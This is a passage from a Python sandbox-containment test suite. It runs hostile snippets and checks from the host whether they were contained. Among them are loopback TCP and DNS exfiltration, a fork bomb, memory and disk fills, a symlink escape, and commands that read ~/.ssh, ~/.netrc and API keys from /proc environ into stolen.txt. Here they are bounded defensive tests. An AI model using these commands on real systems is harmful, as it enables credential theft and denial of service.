"""Hostile code, run through a real sandbox exactly as agent-written code is, judged from the host.

Each case writes a snippet into a fresh directory of the sandbox's workspace, runs it with ``sandbox.run`` and then
looks from the outside whether the sandbox held: the sentinel file outside the workspace (or outside the write
scope) does not exist, the loopback server this suite started saw no connection, no process carrying the case's
mark survives, the secret never shows in the output or the workspace, memory-backed filesystems, shared memory,
memfd files, several processes together and deleted files held no more than the limits allow, and no memory outlives
the command. Every snippet is bounded even when the sandbox does not hold it (the fork bomb stops at a ceiling, the
memory, disk, shared memory and tmpfs fills a little past their limits, the processes at 2.4 times the memory
limit together), and the suite kills and deletes whatever a case leaves behind, SysV segments included, so running it
leaves the machine healthy whatever the backend.

``nemo-opt doctor --sandbox`` runs it; so do the tests.
"""

from __future__ import annotations

import contextlib
import ctypes
import functools
import os
import random
import shutil
import signal
import socket
import subprocess
import tempfile
import textwrap
import threading
import time
import uuid
from abc import ABC, abstractmethod
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Self

from nemo_opt.exceptions import NemoError
from nemo_opt.sandbox._cgroup import memory_cgroup_root, pids_cgroup_root
from nemo_opt.sandbox._proc import proc_pids, read_proc
from nemo_opt.sandbox._process import HEAD_BYTES, TAIL_BYTES
from nemo_opt.sandbox._watch import disk_usage
from nemo_opt.sandbox.base import ExecResult, Limit, Limits
from nemo_opt.sandbox.bwrap import disables_userns
from nemo_opt.sandbox.local import SubprocessSandbox

__all__ = [
    "CASES",
    "Case",
    "CaseResult",
    "LoopbackDns",
    "LoopbackTcp",
    "HostPaths",
    "case_names",
    "known_gap",
    "run_suite",
    "suite_limits",
]

MIB = 1024 * 1024
# Seconds a case may wait, after the command returned, for killed processes to disappear from /proc.
_SURVIVOR_GRACE = 2.0
# A fork bomb that is not contained stops here, far below the kernel's pid_max, so the machine stays usable.
_FORK_CEILING = 1000
_FLOOD_MB = 200


@dataclass(frozen=True)
class HostPaths:
    """Host places the cases try to reach: the user's home and the working directory of the host process."""

    home: Path = field(default_factory=Path.home)
    cwd: Path = field(default_factory=Path.cwd)


@dataclass(frozen=True)
class CaseResult:
    """What one case showed: whether the sandbox held, what the agent would have been told, and how long it took."""

    name: str
    contained: bool
    observation: str
    seconds: float
    evidence: str
    limit: Limit | None = None

    def line(self) -> str:
        """One line for the terminal, ending in ``contained`` or ``NOT CONTAINED``."""
        verdict = "contained" if self.contained else "NOT CONTAINED"
        return f"{self.name:<22} {self.seconds:6.2f}s  {self.observation}; {self.evidence}  {verdict}"


@dataclass
class Trial:
    """One case's run: its fresh directory, its unique marks, and how to run code there."""

    sandbox: SubprocessSandbox
    folder: Path
    host: HostPaths
    timeout: float
    token: str = field(default_factory=lambda: uuid.uuid4().hex[:16])
    # A number no other process uses, passed to `sleep` and friends so survivors can be found by their cmdline.
    mark: str = field(default_factory=lambda: f"{random.randint(7000, 7999)}.{random.randint(100000, 999999)}")

    @property
    def limits(self) -> Limits:
        return self.sandbox.limits

    def write(self, name: str, text: str) -> None:
        (self.folder / name).write_text(textwrap.dedent(text).lstrip())

    def run(self, command: str, timeout: float | None = None) -> ExecResult:
        return self.sandbox.run(command, cwd=self.folder, timeout=timeout or self.timeout)

    def python(self, name: str, code: str, *args: str, timeout: float | None = None) -> ExecResult:
        """Write ``code`` to ``name`` in the case folder and run it with the sandbox's python."""
        self.write(name, code)
        return self.run(" ".join(["python", name, *args]), timeout)

    def readable(self) -> str:
        """Everything the command left in its folder, as text: where a secret it read would have been stored."""
        parts = []
        for path in self.folder.rglob("*"):
            with contextlib.suppress(OSError):
                if path.is_file() and not path.is_symlink():
                    parts.append(path.read_bytes()[: 4 * MIB].decode("utf-8", errors="replace"))
        return "\n".join(parts)


@dataclass(frozen=True)
class Verdict:
    contained: bool
    evidence: str
    result: ExecResult


CaseCheck = Callable[[Trial], Verdict]


@dataclass(frozen=True)
class Case:
    """A named attack and the host-side check that decides whether the sandbox held it."""

    name: str
    attack: str
    check: CaseCheck
    # Why the plain-subprocess backend cannot contain this attack; None when it can.
    plain_gap: str | None = None


# --- host-side observation -----------------------------------------------------------------------------------------


def _alive(pid: str) -> bool:
    stat = read_proc(pid, "stat")
    return stat is not None and stat.rsplit(b")", 1)[-1].split()[:1] not in ([b"Z"], [b"X"])


def _marked(mark: str) -> list[int]:
    """Live processes whose command line contains ``mark`` (a zombie has already died)."""
    needle = mark.encode()
    own = str(os.getpid())
    found = []
    for pid in proc_pids():
        if pid == own:
            continue
        cmdline = read_proc(pid, "cmdline")
        if cmdline is not None and needle in cmdline and _alive(pid):
            found.append(int(pid))
    return found


def _survivors(mark: str) -> list[int]:
    """Processes carrying ``mark`` still alive after a grace period; they are killed, the count is evidence."""
    deadline = time.monotonic() + _SURVIVOR_GRACE
    while (alive := _marked(mark)) and time.monotonic() < deadline:
        time.sleep(0.05)
    for pid in alive:
        with contextlib.suppress(ProcessLookupError, PermissionError):
            os.kill(pid, signal.SIGKILL)
    return alive


def _stopped(result: ExecResult) -> bool:
    """Whether a limit other than the timeout stopped the command, or the kernel refused what it asked: a snippet
    that failed on its own, or ran out of time before it got past the limit, shows nothing about the sandbox."""
    return result.limit_hit not in (None, Limit.TIMEOUT) or "refused" in result.output


def _limit_name(result: ExecResult) -> str:
    return result.limit_hit.value if result.limit_hit is not None else "no"


class _Loopback(ABC):
    """A server thread on a 127.0.0.1 socket, used as a context manager; subclasses say what one turn does."""

    def __init__(self, sock: socket.socket, name: str) -> None:
        self._sock = sock
        self._sock.settimeout(0.1)
        self.port: int = self._sock.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, name=name, daemon=True)

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                self._turn()
            except TimeoutError:
                continue
            except OSError:
                return

    @abstractmethod
    def _turn(self) -> None:
        """Serve one connection or datagram (a socket timeout just means nothing arrived yet)."""

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(2.0)
        self._sock.close()


class LoopbackTcp(_Loopback):
    """A TCP server on 127.0.0.1 that records every connection and what was sent on it."""

    def __init__(self) -> None:
        super().__init__(socket.create_server(("127.0.0.1", 0)), "hostile-tcp")
        self.received: list[bytes] = []

    def _turn(self) -> None:
        conn, _ = self._sock.accept()
        with conn:
            conn.settimeout(1.0)
            try:
                self.received.append(conn.recv(4096) or b"<connected>")
            except OSError:
                self.received.append(b"<connected>")


class LoopbackDns(_Loopback):
    """A UDP DNS responder on 127.0.0.1 that records every query (answering NXDOMAIN)."""

    def __init__(self) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.bind(("127.0.0.1", 0))
        super().__init__(sock, "hostile-dns")
        self.queries: list[bytes] = []

    def _turn(self) -> None:
        packet, peer = self._sock.recvfrom(4096)
        self.queries.append(packet)
        if len(packet) >= 12:  # same id, response + NXDOMAIN, question echoed
            with contextlib.suppress(OSError):
                self._sock.sendto(packet[:2] + b"\x81\x83" + packet[4:], peer)


# --- network -------------------------------------------------------------------------------------------------------

_NETWORK_GAP = "the plain backend shares the host's network: code reaches any server this user can, loopback included"


def _tcp_connect(trial: Trial) -> Verdict:
    with LoopbackTcp() as server:
        result = trial.python(
            "connect.py",
            f"""
            import socket
            try:
                with socket.create_connection(("127.0.0.1", {server.port}), timeout=2) as conn:
                    conn.sendall(b"exfiltrated {trial.token}")
                print("connected")
            except OSError as exc:
                print("connect failed:", exc)
            """,
        )
        time.sleep(0.2)  # let the accept thread record a connection made just before the command ended
        seen = len(server.received)
    return Verdict(seen == 0, f"loopback server saw {seen} connection(s)", result)


def _dns_lookup(trial: Trial) -> Verdict:
    with LoopbackDns() as resolver:
        result = trial.python(
            "lookup.py",
            f"""
            import socket, struct
            name = "{trial.token}.exfil.invalid"
            question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\\0"
            packet = struct.pack(">HHHHHH", 0x4E4F, 0x0100, 1, 0, 0, 0) + question + struct.pack(">HH", 1, 1)
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.settimeout(0.5)
            try:
                sock.sendto(packet, ("127.0.0.1", {resolver.port}))
                print("answer:", sock.recvfrom(512)[0][:4])
            except OSError as exc:
                print("lookup failed:", exc)
            """,
        )
        time.sleep(0.2)
        seen = len(resolver.queries)
    return Verdict(seen == 0, f"loopback DNS server saw {seen} query(ies)", result)


# --- filesystem ----------------------------------------------------------------------------------------------------

_WRITE_GAP = "the plain backend has no filesystem isolation: code writes wherever this user can"
_SCOPE_GAP = "the plain backend cannot enforce write scopes: a scoped command writes anywhere in the workspace"
_SHM_GAP = (
    "the plain backend shares the host's /dev/shm: what code stores there outlives the command, memory no limit "
    "counts once it has ended"
)
_SYSV_GAP = (
    "the plain backend shares the host's SysV IPC namespace: shared memory segments outlive the command, memory no "
    "limit counts once it has ended (kernel.shm_rmid_forced = 1 would remove them)"
)
_USERNS_GAP = "the plain backend lets code create user namespaces (unshare -rm) and mount a tmpfs of any size in them"
_READ_GAP = "the plain backend has no filesystem isolation: code reads any file this user can"


def _write_outside(where: Callable[[Trial], Path]) -> CaseCheck:
    def check(trial: Trial) -> Verdict:
        sentinel = where(trial) / f".nemo-hostile-{trial.token}"
        try:
            result = trial.run(f"echo pwned > '{sentinel}'; echo exit=$?; ls -la '{sentinel}'")
            exists = sentinel.exists()
        finally:
            with contextlib.suppress(OSError):
                sentinel.unlink()
        return Verdict(not exists, f"{sentinel} {'was written' if exists else 'does not exist'}", result)

    return check


def _host_tmp(trial: Trial) -> Path:
    """A /tmp-like directory outside the workspace (the workspace may itself live under /tmp)."""
    return Path(tempfile.gettempdir())


def _symlink_escape(trial: Trial) -> Verdict:
    """Symlinks made inside the workspace pointing at a host file and a host directory; read and write through."""
    host_dir = Path(tempfile.mkdtemp(prefix="nemo-hostile-host-"))
    secret = f"symlink-secret-{trial.token}"
    (host_dir / "secret.txt").write_text(secret)
    try:
        result = trial.run(
            f"ln -s '{host_dir}/secret.txt' file-link; ln -s '{host_dir}' dir-link; "
            "cat file-link; cat file-link > copied.txt; echo pwned > dir-link/written.txt; "
            "echo pwned >> file-link; ls -la dir-link/"
        )
        written = (host_dir / "written.txt").exists()
        altered = (host_dir / "secret.txt").read_text() != secret
        leaked = secret in result.output or secret in trial.readable()
    finally:
        shutil.rmtree(host_dir, ignore_errors=True)
    evidence = f"host file read: {'yes' if leaked else 'no'}, host dir written: {'yes' if written or altered else 'no'}"
    return Verdict(not (written or altered or leaked), evidence, result)


@contextlib.contextmanager
def _decoy(path: Path, text: str) -> Iterator[bool]:
    """Create ``path`` holding ``text`` unless something is there already (a real file is never replaced).

    Yields whether the decoy was created; everything created, folders included, is removed afterwards.
    """
    created_dirs = []
    for parent in reversed(path.parents):
        if not parent.exists():
            created_dirs.append(parent)
    if path.exists() or path.is_symlink():
        yield False
        return
    try:
        for folder in created_dirs:
            folder.mkdir(mode=0o700)
        path.write_text(text)
        path.chmod(0o600)
        yield True
    finally:
        with contextlib.suppress(OSError):
            path.unlink()
        for folder in reversed(created_dirs):
            with contextlib.suppress(OSError):
                folder.rmdir()


def _config_files(trial: Trial) -> Verdict:
    """Decoys with a secret in ~/.config/nemo-opt, ~/.ssh, ~/.netrc and ./nemo.toml of the host process."""
    secret = f"config-secret-{trial.token}"
    home, cwd = trial.host.home, trial.host.cwd
    decoys = {
        home / ".config" / "nemo-opt" / f"hostile-decoy-{trial.token}.toml": f"# decoy api_key = {secret}\n",
        home / ".ssh" / f"id_hostile_decoy_{trial.token}": f"-----DECOY KEY----- {secret}\n",
        home / ".netrc": f"machine nemo-hostile.invalid login decoy password {secret}\n",
        cwd / "nemo.toml": f"# decoy written by the sandbox check: {secret}\n",
    }
    with contextlib.ExitStack() as stack:
        placed = [path for path, text in decoys.items() if stack.enter_context(_decoy(path, text))]
        skipped = [str(path) for path in decoys if path not in placed]
        reads = " ".join(f"cat '{path}';" for path in decoys)
        result = trial.run(
            f"{reads} cat ~/.netrc ~/.ssh/* ./nemo.toml; "
            f"cat '{home}'/.config/nemo-opt/* '{home}'/.ssh/* 2>&1 | tee stolen.txt"
        )
        leaked = secret in result.output or secret in trial.readable()
    evidence = f"{len(placed)} decoy(s) {'read' if leaked else 'unread'}"
    if skipped:
        evidence += f" (real files left alone, not used: {', '.join(skipped)})"
    return Verdict(not leaked, evidence, result)


def _env_secrets(trial: Trial) -> Verdict:
    """Secrets in this process's environment and in the initial environment of a host process of this user."""
    secret = f"env-secret-{trial.token}"
    names = ("OPENAI_API_KEY", "NEMO_TEST_SECRET")
    saved = {name: os.environ.get(name) for name in names}
    # nemo-opt itself is normally started by a shell that exported the key: a process whose /proc/<pid>/environ
    # holds it. This stand-in is such a process.
    holder = subprocess.Popen(
        ["sleep", trial.mark],
        env={**os.environ, **dict.fromkeys(names, secret)},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        os.environ.update(dict.fromkeys(names, secret))
        result = trial.run(
            f"env; cat /proc/$PPID/environ /proc/1/environ /proc/{os.getpid()}/environ /proc/{holder.pid}/environ "
            "2>/dev/null | tr '\\0' '\\n' | grep -e OPENAI_API_KEY -e NEMO_TEST_SECRET | tee found.txt"
        )
    finally:
        for name, value in saved.items():
            if value is None:
                os.environ.pop(name, None)
            else:
                os.environ[name] = value
        holder.kill()
        holder.wait()
    leaked = secret in result.output or secret in trial.readable()
    return Verdict(not leaked, f"secret {'seen' if leaked else 'not seen'} in output or workspace", result)


# --- processes -----------------------------------------------------------------------------------------------------


def _fork_bomb(trial: Trial) -> Verdict:
    """Fork without end (up to a ceiling that keeps the machine usable if nothing stops it)."""
    result = trial.python(
        f"bomb_{trial.token}.py",
        f"""
        import os, time
        spawned = 0
        failures = 0
        with open("spawned", "w") as log:
            while spawned < {_FORK_CEILING} and failures < 10000:
                try:
                    pid = os.fork()
                except OSError:
                    failures += 1
                    continue
                if pid == 0:
                    time.sleep(60)
                    os._exit(0)
                spawned += 1
                log.write(f"{{spawned}}\\n")
                log.flush()
        print("spawned", spawned, "refused", failures)
        time.sleep(60)
        """,
    )
    survivors = _survivors(trial.token)
    try:
        spawned = int((trial.folder / "spawned").read_text().split()[-1])
    except (OSError, ValueError, IndexError):
        spawned = 0
    held = spawned <= trial.limits.max_processes and result.limit_hit is not None and not survivors
    evidence = f"{spawned} processes forked (cap {trial.limits.max_processes}), {len(survivors)} survived"
    return Verdict(held, evidence, result)


def _memory_bomb(trial: Trial) -> Verdict:
    """Allocate and touch memory in 32 MiB steps up to a little past the memory limit."""
    target = trial.limits.memory_mb + 256
    result = trial.python(
        "memory.py",
        f"""
        import sys
        hoard = []
        with open("reached", "w") as log:
            while len(hoard) * 32 < {target}:
                hoard.append(b"x" * (32 << 20))
                log.write(f"{{len(hoard) * 32}}\\n")
                log.flush()
        print("allocated", len(hoard) * 32, "MiB")
        """,
    )
    try:
        reached = int((trial.folder / "reached").read_text().split()[-1])
    except (OSError, ValueError, IndexError):
        reached = 0
    held = reached <= trial.limits.memory_mb and result.limit_hit is not None
    return Verdict(held, f"{reached} MiB touched (limit {trial.limits.memory_mb} MiB)", result)


_MEMORY_PROCESSES = 4
_MEMORY_SHARE = 0.6


def _many_processes_memory(trial: Trial) -> Verdict:
    """Four processes each allocate and touch 60% of the memory limit, and hold it until all of them are holding:
    RLIMIT_AS caps each process on its own, not the four together."""
    share = int(trial.limits.memory_mb * _MEMORY_SHARE)
    result = trial.python(
        "many.py",
        f"""
        import os, time
        share = {share}

        def child(number):
            hoard, held = [], 0
            while held < share:
                step = min(16, share - held)
                hoard.append(b"x" * (step << 20))
                held += step
            with open(f"holding-{{number}}", "w") as mark:
                mark.write(str(held))
            deadline = time.monotonic() + 2
            while not os.path.exists("release") and time.monotonic() < deadline:
                time.sleep(0.01)

        children = []
        for number in range({_MEMORY_PROCESSES}):
            pid = os.fork()
            if pid == 0:
                try:
                    child(number)
                finally:  # a child never runs on into its parent's loop, whatever happened to it
                    os._exit(0)
            children.append(pid)
        alive, most = set(children), 0
        with open("reached", "w") as log:
            while alive:
                holding = {{pid for number, pid in enumerate(children) if os.path.exists(f"holding-{{number}}")}}
                # Holding then and still alive a moment later: it held its share all along (a killed one is
                # reaped by then).
                time.sleep(0.05)
                alive -= {{pid for pid in alive if os.waitpid(pid, os.WNOHANG)[0]}}
                if len(holding & alive) > most:
                    most = len(holding & alive)
                    log.write(f"{{most * share}}\\n")
                    log.flush()
                if alive <= holding:
                    open("release", "w").close()
        print("at most", most, "of", len(children), "processes held", share, "MiB at once")
        """,
    )
    together = _last_number(trial.folder / "reached")
    held = together <= trial.limits.memory_mb and _stopped(result)
    evidence = f"{together // share if share else 0} of {_MEMORY_PROCESSES} processes held {share} MiB each at once"
    return Verdict(held, f"{evidence} ({together} MiB, limit {trial.limits.memory_mb} MiB)", result)


def _cpu_spin(trial: Trial) -> Verdict:
    """Spin on the CPU in a background shell loop and a foreground python loop."""
    result = trial.run(
        f"(while :; do :; done) & python -c 'while True: pass' {trial.mark}",
    )
    survivors = _survivors(trial.mark)
    held = result.limit_hit in (Limit.CPU, Limit.TIMEOUT) and not survivors
    return Verdict(held, f"stopped by the {_limit_name(result)} limit, {len(survivors)} survived", result)


def _sleep_past_timeout(trial: Trial) -> Verdict:
    """Sleep past the timeout, with children and grandchildren that ignore SIGTERM (and SIGHUP, SIGINT)."""
    ignoring = "import signal, time\nfor s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
    ignoring += "    signal.signal(s, signal.SIG_IGN)\ntime.sleep(3600)\n"
    trial.write(f"stubborn_{trial.token}.py", ignoring)
    started = time.monotonic()
    result = trial.run(
        f"trap '' TERM HUP INT; python stubborn_{trial.token}.py & "
        f"(trap '' TERM; sleep {trial.mark}; sleep {trial.mark}) & "
        f"bash -c \"trap '' TERM; sleep {trial.mark}\" & sleep {trial.mark}"
    )
    elapsed = time.monotonic() - started
    survivors = _survivors(trial.mark) + _survivors(trial.token)
    held = result.limit_hit is Limit.TIMEOUT and elapsed < trial.timeout + 5 and not survivors
    evidence = f"returned after {elapsed:.1f}s (timeout {trial.timeout:g}s), {len(survivors)} survived"
    return Verdict(held, evidence, result)


def _setsid_daemon(trial: Trial) -> Verdict:
    """Daemons that leave the process group and session, one of them also dropping its environment."""
    result = trial.run(
        f"setsid bash -c \"trap '' TERM HUP; exec sleep {trial.mark}\" </dev/null >/dev/null 2>&1 & "
        'python -c "import os\n'
        "if os.fork(): os._exit(0)\n"
        "os.setsid()\n"
        "if os.fork(): os._exit(0)\n"
        f"os.execve('/bin/sleep', ['sleep', '{trial.mark}'], {{}})\" </dev/null >/dev/null 2>&1; "
        "sleep 0.3; echo daemons started"
    )
    survivors = _survivors(trial.mark)
    return Verdict(not survivors, f"{len(survivors)} daemon(s) outlived the command", result)


# --- output and disk -----------------------------------------------------------------------------------------------


def _output_flood(trial: Trial) -> Verdict:
    """Print 200 MB to stdout."""
    result = trial.run(f"head -c {_FLOOD_MB * MIB} /dev/zero | tr '\\0' 'x'; echo; echo done")
    kept = len(result.output.encode())
    bounded = kept <= HEAD_BYTES + TAIL_BYTES + 1024
    stopped = result.limit_hit is Limit.OUTPUT or trial.limits.max_output_mb >= _FLOOD_MB
    evidence = f"{kept // 1024} KiB of {result.output_bytes // MIB} MiB kept, "
    evidence += f"stopped by the {_limit_name(result)} limit"
    return Verdict(bounded and stopped, evidence, result)


def _fill_disk(trial: Trial) -> Verdict:
    """Write 8 MiB files into the workspace, up to twice the disk quota and more."""
    target = 2 * trial.limits.disk_mb + 256
    chunk = min(8, trial.limits.file_size_mb)
    result = trial.python(
        "fill.py",
        f"""
        import os
        block = os.urandom(1 << 20) * {chunk}
        written = 0
        os.makedirs("fill", exist_ok=True)
        while written < {target}:
            with open(f"fill/{{written}}.bin", "wb") as out:
                out.write(block)
            written += {chunk}
        print("wrote", written, "MiB")
        """,
    )
    used = disk_usage(trial.folder) // MIB
    held = result.limit_hit is Limit.DISK and used < target
    evidence = f"{used} MiB in the workspace when stopped (quota {trial.limits.disk_mb} MiB, attempt {target} MiB)"
    return Verdict(held, evidence, result)


def _deleted_files(trial: Trial) -> Verdict:
    """Open workspace files, delete each at once and keep writing to them: blocks no walk of the workspace finds."""
    target = 2 * trial.limits.disk_mb + 256
    chunk = min(8, trial.limits.file_size_mb)
    result = trial.python(
        "deleted.py",
        f"""
        import os
        block = os.urandom(1 << 20) * {chunk}
        held, written = [], 0
        with open("reached", "w") as log:
            while written < {target}:
                out = open(f"held-{{written}}.bin", "wb")
                os.unlink(out.name)
                out.write(block)
                out.flush()
                held.append(out)
                written += {chunk}
                log.write(f"{{written}}\\n")
                log.flush()
        print("wrote", written, "MiB to deleted files")
        """,
    )
    reached = _last_number(trial.folder / "reached")
    held = result.limit_hit is Limit.DISK and reached < target
    when = " when stopped" if result.limit_hit is not None else ""
    evidence = f"{reached} MiB written to deleted files{when} (quota {trial.limits.disk_mb} MiB, attempt {target} MiB)"
    return Verdict(held, evidence, result)


# --- memory-backed filesystems -------------------------------------------------------------------------------------

_SHM_DIR = Path("/dev/shm")


def _fill_script(where: str, target: int, chunk: int) -> str:
    """Python that writes ``chunk`` MiB files under ``where`` up to ``target`` MiB, logging the total to ./reached."""
    return f"""
        import os
        block = b"x" * ({chunk} << 20)
        written = 0
        os.makedirs({where!r}, exist_ok=True)
        with open("reached", "w") as log:
            while written < {target}:
                try:
                    with open(os.path.join({where!r}, f"{{written}}.bin"), "wb") as out:
                        out.write(block)
                except OSError as exc:
                    print("write refused:", exc)
                    break
                written += {chunk}
                log.write(f"{{written}}\\n")
                log.flush()
        print("held", written, "MiB in", {where!r})
        """


def _last_number(path: Path) -> int:
    try:
        return int(path.read_text().split()[-1])
    except (OSError, ValueError, IndexError):
        return 0


def _shm_fill(trial: Trial) -> Verdict:
    """Write files into /dev/shm (memory no process owns, so RLIMIT_AS does not count it) past the memory limit."""
    target = trial.limits.memory_mb + 128
    shm = _SHM_DIR / f"nemo-hostile-{trial.token}"
    left = 0
    try:
        result = trial.python("shm.py", _fill_script(str(shm), target, min(8, trial.limits.file_size_mb)))
        left = disk_usage(shm) if shm.is_dir() else 0  # seen from the host: only a shared /dev/shm keeps anything
    finally:
        shutil.rmtree(shm, ignore_errors=True)
    reached = _last_number(trial.folder / "reached")
    held = reached <= trial.limits.memory_mb and left == 0
    evidence = f"{reached} MiB held in /dev/shm, {_mib(left)} MiB left after the command"
    return Verdict(held, f"{evidence} (memory limit {trial.limits.memory_mb} MiB)", result)


def _mib(size: int) -> str:
    """Bytes as MiB, a partial MiB shown as such (so that something left is never shown as 0)."""
    return str(size // MIB) if size % MIB == 0 else f"{size / MIB:.1f}"


# SysV segments are found and removed by key: 0x4 then 16 bits of the case's token then a 12-bit segment number.
_SHM_KEY_FLAG = 0x40000000
_SHM_CHUNK_MB = 8
_IPC_RMID = 0


def _shm_keys(trial: Trial) -> range:
    base = _SHM_KEY_FLAG | (int(trial.token[:4], 16) << 12)
    return range(base, base + 4096)


def _sysv_segments(keys: range) -> dict[int, int]:
    """Segment id -> resident bytes of this IPC namespace's SysV shared memory segments whose key is in ``keys``."""
    try:
        lines = Path("/proc/sysvipc/shm").read_text().splitlines()
    except OSError:
        return {}
    if not lines:
        return {}
    header = lines[0].split()
    key, shmid = header.index("key"), header.index("shmid")
    size = header.index("rss") if "rss" in header else header.index("size")
    found = {}
    for line in lines[1:]:
        fields = line.split()
        if len(fields) == len(header) and int(fields[key]) in keys:
            found[int(fields[shmid])] = int(fields[size])
    return found


def _remove_segments(segments: dict[int, int]) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    for shmid in segments:
        libc.shmctl(shmid, _IPC_RMID, None)


def _sysv_shm(trial: Trial) -> Verdict:
    """Create SysV shared memory segments (shmget), fill each through shmat and detach it again, past the memory
    limit: a detached segment keeps its pages but is in no address space, so RLIMIT_AS does not count it."""
    keys = _shm_keys(trial)
    count = -(-(trial.limits.memory_mb + 128) // _SHM_CHUNK_MB)
    code = f"""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
        libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
        libc.shmat.restype = ctypes.c_void_p
        libc.shmdt.argtypes = [ctypes.c_void_p]
        keys = range({keys.start}, {keys.start + count})
        size = {_SHM_CHUNK_MB} << 20

        made = 0

        def held():
            # What the segments still hold, from the kernel's own list: a segment it destroyed holds nothing.
            try:
                lines = open("/proc/sysvipc/shm").read().splitlines()
            except OSError:
                return made * size >> 20
            header = lines[0].split()
            column, name = header.index("rss" if "rss" in header else "size"), header.index("key")
            return sum(int(row[column]) for row in map(str.split, lines[1:]) if int(row[name]) in keys) >> 20

        with open("reached", "w") as log:
            for key in keys:
                shmid = libc.shmget(key, size, 0o3600)  # IPC_CREAT | IPC_EXCL | 0600
                if shmid < 0:
                    print("shmget refused:", os.strerror(ctypes.get_errno()))
                    break
                address = libc.shmat(shmid, None, 0)
                if address is None or address == ctypes.c_void_p(-1).value:
                    print("shmat refused:", os.strerror(ctypes.get_errno()))
                    break
                ctypes.memset(address, 120, size)
                libc.shmdt(address)
                made += 1
                log.write(f"{{held()}}\\n")
                log.flush()
        print("held", held(), "MiB in SysV shared memory")
        """
    try:
        result = trial.python("sysv.py", code)
    finally:
        # Seen from the host: only a sandbox sharing the host's IPC namespace leaves segments it can see.
        left = _sysv_segments(keys)
        _remove_segments(left)
    reached = _last_number(trial.folder / "reached")
    held = reached <= trial.limits.memory_mb and not left and _stopped(result)
    evidence = f"{reached} MiB held in SysV shared memory, {len(left)} segment(s) of {_mib(sum(left.values()))} MiB"
    return Verdict(held, f"{evidence} left after the command (memory limit {trial.limits.memory_mb} MiB)", result)


def _memfd_fill(trial: Trial) -> Verdict:
    """Create memfd files (memfd_create) and write to each past the memory limit, keeping them open: their pages
    are in no address space, so RLIMIT_AS does not count them."""
    target = trial.limits.memory_mb + 128
    chunk = min(8, trial.limits.file_size_mb)  # RLIMIT_FSIZE caps each memfd like any file
    result = trial.python(
        "memfd.py",
        f"""
        import os
        block = b"x" * ({chunk} << 20)
        files, held = [], 0
        with open("reached", "w") as log:
            while held < {target} << 20:
                fd = os.memfd_create(f"nemo-hostile-{{len(files)}}")
                try:
                    os.write(fd, block)
                except OSError as exc:
                    print("write refused:", exc)
                    break
                files.append(fd)
                held += os.fstat(fd).st_size
                log.write(f"{{held >> 20}}\\n")
                log.flush()
        print("held", held >> 20, "MiB in", len(files), "memfd files")
        """,
    )
    reached = _last_number(trial.folder / "reached")
    held = reached <= trial.limits.memory_mb and _stopped(result)
    return Verdict(held, f"{reached} MiB held in memfd files (memory limit {trial.limits.memory_mb} MiB)", result)


def _userns_tmpfs(trial: Trial) -> Verdict:
    """Become root of a new user namespace (unshare -rm), mount a tmpfs and fill it past the memory limit."""
    target = trial.limits.memory_mb + 128
    trial.write("fill.py", _fill_script("mnt/fill", target, min(8, trial.limits.file_size_mb)))
    # The mount lives in the command's own mount namespace: it vanishes with it and the host never sees it.
    result = trial.run(
        "mkdir -p mnt; unshare -rm sh -c 'mount -t tmpfs nemo-hostile mnt && echo mounted > mounted && "
        "python fill.py'; echo unshare exit=$?"
    )
    mounted = (trial.folder / "mounted").exists()
    reached = _last_number(trial.folder / "reached")
    if not mounted:
        return Verdict(True, "unshare or the tmpfs mount was refused", result)
    held = reached <= trial.limits.memory_mb
    return Verdict(held, f"{reached} MiB held in a private tmpfs (memory limit {trial.limits.memory_mb} MiB)", result)


# --- write scopes --------------------------------------------------------------------------------------------------


def _write_outside_scope(trial: Trial) -> Verdict:
    """Through a sandbox scoped to one folder: write into a sibling folder and the workspace root, and overwrite,
    delete and rename a sibling's file."""
    mine, theirs = trial.folder / "mine", trial.folder / "theirs"
    mine.mkdir()
    theirs.mkdir()
    kept = theirs / "kept.txt"
    kept.write_text(trial.token)
    planted = theirs / f"planted-{trial.token}"
    at_root = trial.sandbox.workspace / f".nemo-hostile-{trial.token}"
    box = trial.sandbox.scoped([mine])
    try:
        result = box.run(
            f"echo pwned > '{planted}'; echo pwned > '{at_root}'; echo pwned > '{kept}'; "
            f"mv '{kept}' '{theirs}/moved' || rm -f '{kept}'; echo mine > '{mine}/own.txt'; ls -la '{theirs}'",
            cwd=mine,
            timeout=trial.timeout,
        )
        written = [path.name for path in (planted, at_root) if path.exists()]
        altered = not kept.is_file() or kept.read_text() != trial.token
        own = (mine / "own.txt").is_file()
    finally:
        with contextlib.suppress(OSError):
            at_root.unlink()
    evidence = f"written outside the scope: {', '.join(written) or 'nothing'}; "
    evidence += f"sibling file {'altered' if altered else 'intact'}; own folder {'written' if own else 'NOT written'}"
    return Verdict(not written and not altered, evidence, result)


_NO_MEMORY_CGROUP = "without a memory cgroup, RLIMIT_AS caps each process's address space on its own"
_MEMORY_GAPS = {
    "sysv-shm": f"{_NO_MEMORY_CGROUP}: a detached SysV shared memory segment is in none",
    "memfd-fill": f"{_NO_MEMORY_CGROUP}: memfd pages written with write() are in none",
    "many-processes-memory": f"{_NO_MEMORY_CGROUP}: several processes hold several times the limit together",
}


def _shm_rmid_forced() -> bool:
    """Whether the host removes a SysV segment once it is detached and its creator has exited."""
    try:
        return Path("/proc/sys/kernel/shm_rmid_forced").read_text().strip() == "1"
    except OSError:
        return False


def _root_without_cgroup_gap() -> str | None:
    if os.getuid() != 0 or pids_cgroup_root() is not None:
        return None
    return "running as root without a writable pids cgroup: RLIMIT_NPROC does not bind root"


CASES: tuple[Case, ...] = (
